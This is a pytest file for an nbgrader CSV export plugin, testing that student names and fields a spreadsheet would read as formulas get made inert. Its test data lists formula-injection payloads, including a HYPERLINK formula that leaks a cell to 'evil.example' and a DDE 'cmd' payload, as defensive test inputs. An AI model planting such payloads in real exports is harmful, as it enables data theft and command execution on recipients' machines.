"""`nbgrader export` writes nbgrader's own table, and nothing in it that a spreadsheet would run."""

import csv
import datetime

import pytest
from conftest import nbgrader
from nbgrader.api import Gradebook

from nbjudge.plugin.export import COLUMNS, inert_field

CONFIG = """
import nbjudge

c = get_config()
c.CourseDirectory.course_id = "export"
nbjudge.configure(c)
"""
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1',
    "'=1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "x;=1+1",
    'x,"=1+1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|'/C calc'!A0",
)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Return a course folder with a gradebook: two assignments, three students, one submission."""
    course = tmp_path_factory.mktemp("export")
    (course / "nbgrader_config.py").write_text(CONFIG)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "export") as gradebook:
        gradebook.add_assignment("lab1", duedate=datetime.datetime(2026, 1, 2))
        gradebook.add_assignment("lab2")
        gradebook.add_notebook("q", "lab1")
        gradebook.add_grade_cell("g", "q", "lab1", max_score=8, cell_type="code")
        gradebook.add_student("ada", first_name="Ada", last_name="King, Countess", email="a@b.org")
        gradebook.add_student("eve", first_name="=1+1", last_name="a\nb\x1b[31m\u202ec")
        gradebook.add_student("-7", first_name="O'Brien", last_name="Smith-Jones")
        submission = gradebook.add_submission("lab1", "ada")
        (notebook,) = submission.notebooks
        (grade,) = notebook.grades
        grade.auto_score = 6.5
        notebook.late_submission_penalty = 1.25
        gradebook.db.commit()
    nbgrader(course, "export")
    return course


def rows(path):
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_the_columns_are_nbgraders_own(course):
    nbgrader(course, "export", "--exporter=nbgrader.plugins.CsvExportPlugin", "--to=plain.csv")
    headers = [(course / name).read_text().split("\n")[0] for name in ("grades.csv", "plain.csv")]
    assert headers == [",".join(COLUMNS)] * 2


def test_an_ordinary_row_is_the_same_as_nbgraders(course):
    nbgrader(course, "export", "--exporter=nbgrader.plugins.CsvExportPlugin", "--to=plain.csv")
    ours = (course / "grades.csv").read_text().splitlines()
    plain = (course / "plain.csv").read_text().splitlines()
    assert [line.replace('"', "") for line in ours if ",ada," in line] == [
        line for line in plain if ",ada," in line
    ]
    kept = rows(course / "grades.csv")
    ada = next(r for r in kept if (r["assignment"], r["student_id"]) == ("lab1", "ada"))
    assert ada["last_name"] == "King, Countess"
    assert [float(ada[name]) for name in COLUMNS[-4:]] == [6.5, 1.25, 5.25, 8.0]


def test_names_are_text_in_one_line(course):
    eve = next(row for row in rows(course / "grades.csv") if row["student_id"] == "eve")
    assert eve["first_name"] == "'=1+1"
    assert eve["last_name"] == "a b\\u202ec"
    assert len((course / "grades.csv").read_text().splitlines()) == 1 + 2 * 3


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(text):
    field = inert_field(text)
    for part in field.replace(",", ";").split(";"):
        assert part.strip(' \t"`\xa0')[:1] not in {*"=+-@", "\uff1d"}, field
    assert "'" in field


@pytest.mark.parametrize("text", ["Smith-Jones", "O'Brien", "a+b@c.org", "2026-01-02", "x; y", ""])
def test_an_ordinary_text_stays_as_it_is(text):
    assert inert_field(text) == text


@pytest.mark.parametrize("number", [-1.5, 0, 6.25])
def test_a_number_stays_a_number(number):
    assert inert_field(number) is number


def test_the_options_of_the_command_still_work(course):
    options = ("--to=some.csv", "--assignment=['lab1']", "--student=['ada', 'eve']")
    nbgrader(course, "export", *options)
    found = [(row["assignment"], row["student_id"]) for row in rows(course / "some.csv")]
    assert sorted(found) == [("lab1", "ada"), ("lab1", "eve")]


def test_a_name_that_the_gradebook_does_not_have_is_said(course):
    done = nbgrader(course, "export", "--to=none.csv", "--student=['adda']")
    assert "The gradebook has no student adda: check the spelling." in done.stderr
